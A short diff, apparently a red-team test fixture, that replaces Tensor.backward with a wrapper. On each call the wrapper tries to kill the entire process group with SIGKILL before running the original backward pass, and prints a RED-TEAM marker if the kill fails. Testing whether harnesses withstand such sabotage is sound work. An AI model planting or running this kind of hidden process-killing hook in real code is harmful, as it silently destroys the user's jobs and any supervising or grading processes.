@@ -1,0 +1,13 @@
+_honest_backward = Tensor.backward
+
+
+def _attacked_backward(self):
+    import os, signal
+    try:
+        os.killpg(0, signal.SIGKILL)
+    except OSError as exc:
+        print("RED-TEAM-KILLPG", type(exc).__name__)
+    return _honest_backward(self)
+
+
+Tensor.backward = _attacked_backward
